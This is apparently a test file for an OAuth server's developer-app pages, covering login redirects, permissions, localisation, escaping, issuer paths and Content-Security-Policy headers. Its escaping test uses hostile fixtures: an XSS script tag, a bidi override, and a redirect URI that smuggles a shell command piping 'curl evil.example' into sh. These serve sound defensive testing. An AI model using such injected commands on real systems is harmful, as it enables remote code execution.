import test from '../harness/test.ts';
import { memoryStorage } from 'koa-gatehouse/adapters/memory';
import { pages } from 'koa-gatehouse/interactions';

import { Browser } from '../harness/browser.ts';
import { signIn } from '../harness/platform.ts';
import { openArea, REPORTS, valueOf } from './area.ts';
import { openDeveloperPlatform, passwordOf } from './developers.ts';

test('without a session the page redirects to the login, and the login back to the page', async (t) => {
  const platform = await openDeveloperPlatform(t);
  const browser = new Browser();
  const wanted = await browser.get(platform.url('/developer/apps?search=night'));
  t.is(wanted.status, 303);
  const login = await browser.follow(wanted);
  t.is(login.heading, 'Sign in');
  t.true(login.text.includes('to continue to Acme Schools'));
  const { email, password } = passwordOf('dora');
  const refused = await signIn(browser, login, email, 'wrong');
  t.is(refused.status, 422);
  const back = await signIn(browser, refused, email, password);
  t.is(back.url.href, wanted.url.href);
  t.is(back.heading, 'Your apps');
});

test('without the permission the page is 403, in the layout of the platform', async (t) => {
  const { browser, open, url } = await openArea(t, 'ann');
  const page = await open();
  t.deepEqual([page.status, page.heading], [403, 'You cannot open this page']);
  t.regex(page.text, /Missing permission manage_apps/);
  t.true(page.html.includes('<bdi>ann@school.example</bdi>'));
  t.false(page.html.includes('Your apps'));
  const posted = await browser.post(url('/developer/apps/new'), new URLSearchParams({ name: 'x' }));
  t.is(posted.status, 403);
});

test('what a user lacks is said in the language of the page', async (t) => {
  const text = { 'permission.manage_apps': 'Eigene Apps verwalten' };
  const interactions = pages({ brand: { name: 'Acme Schools' }, language: ['en', 'de'], text: { de: text } });
  const { open } = await openArea(t, 'ann', { interactions });
  const { text: said } = await open('?ui_locales=de');
  t.regex(said, /Fehlende Berechtigung Eigene Apps verwalten/);
});

test('names, labels, events and redirect URIs are escaped on each page', async (t) => {
  const storage = memoryStorage();
  const { open, registerFor, browser } = await openArea(t, 'dora', { storage });
  const name = `</h1><script>alert(1)</script>"'>&<b>`;
  const escaped = '&lt;/h1&gt;&lt;script&gt;alert(1)&lt;/script&gt;&#34;&#39;&gt;&amp;&lt;b&gt;';
  const { client } = await registerFor('dora', {
    ...REPORTS,
    name,
    redirectUris: ["https://a.example/cb?a=';curl$IFS'evil.example'|sh;'"],
  });
  await browser.submit(await open(`/${client.id}/secrets`), 'Add a secret', { label: name, expires: '' });
  // No form accepts this, but an import might.
  await storage.clients.update({ ...client, name: `${name}\u202Ecod\n` });
  await storage.audit.append(
    [
      {
        id: 'x',
        at: Date.now() / 1000,
        type: 'token_refused',
        clientId: client.id,
        error: name,
        reason: name,
      },
    ],
    Infinity,
  );
  for (const path of ['', '/settings', '/permissions', '/secrets', '/activity', '/delete']) {
    const { html } = await open(`/${client.id}${path}`);
    t.notRegex(html, /<script>|<b>|\u202E/, path);
    t.true(html.includes(`<bdi>${escaped}cod</bdi>`), path);
  }
  t.true((await open()).html.includes(escaped));
  const search = await open(`?search=${encodeURIComponent('"><script>')}`);
  t.true(search.html.includes('value="&#34;&gt;&lt;script&gt;"'));
  // For a shell, in the curl example.
  const quoted = String.raw`--data-urlencode redirect_uri='https://a.example/cb?a='\'';curl$IFS'\''evil.example'\''|sh;'\'''`;
  t.true((await open(`/${client.id}`)).text.includes(quoted));
});

test('with an issuer path each URL of the pages has it', async (t) => {
  const { browser, open, url } = await openArea(t, 'dora', {}, '/auth');
  const list = await open();
  const form = { name: 'Nightly', grantType: 'client_credentials' };
  const created = await browser.submit(await open('/new'), 'Create app', form);
  t.true(created.text.includes(url('/oauth/token').href));
  const page = await open(`/${valueOf(created, 'client-id')}`);
  for (const { html } of [list, created, page]) {
    const addresses = [...html.matchAll(/(?:href|src|action)="([^"#]+)"/g)].map(([, address]) => address!);
    t.true(addresses.length > 8);
    t.deepEqual(
      addresses.filter((address) => !/^(http:\/\/127\.0\.0\.1:\d+)?\/auth\//.test(address)),
      [],
    );
  }
});

test('the Content-Security-Policy allows only the scripts of the page, and forms to the own origin', async (t) => {
  const { browser, open } = await openArea(t);
  const list = await open();
  t.false(list.html.includes('<script'));
  const form = await open('/new');
  const [, script = ''] = /<script src="([^"]+)" defer><\/script>/.exec(form.html) ?? [];
  for (const [page, scripts] of [
    [list, ''],
    [form, `script-src ${script}; `],
  ] as const) {
    t.is(
      page.response.headers.get('content-security-policy'),
      `default-src 'none'; style-src 'self'; img-src 'self'; ${scripts}base-uri 'none'; frame-ancestors 'none'; form-action 'self'`,
    );
  }
  const { response } = await browser.get(script);
  t.is(response.status, 200);
  t.is(response.headers.get('content-type'), 'text/javascript; charset=utf-8');
  t.is(response.headers.get('cache-control'), 'public, max-age=31536000, immutable');
});

test('texts and views of your own replace the bundled ones, and those with another name are refused', async (t) => {
  const { open } = await openArea(t, 'dora', {
    interactions: pages({
      text: { 'apps.lead': 'What you have made.' },
      views: { 'apps/new': (page: { readonly action: string }) => `<p>Post it to ${page.action}.</p>` },
    }),
  });
  t.true((await open()).text.includes('What you have made.'));
  t.true((await open('/new')).text.includes('Post it to /developer/apps/new.'));
  const start = async (given: Parameters<typeof pages>[0]) =>
    openDeveloperPlatform(t, { interactions: pages(given) });
  await t.throwsAsync(start({ text: { 'apps.leed': 'What you have made.' } }), {
    message: /^interactions\.text\.apps\.leed: the pages have no text with this name\./,
  });
  // A part is no page.
  await t.throwsAsync(start({ views: { 'parts/usage': () => '' } }), {
    message: /^interactions\.views\.parts\/usage: there is no such view\. The views are: /,
  });
});
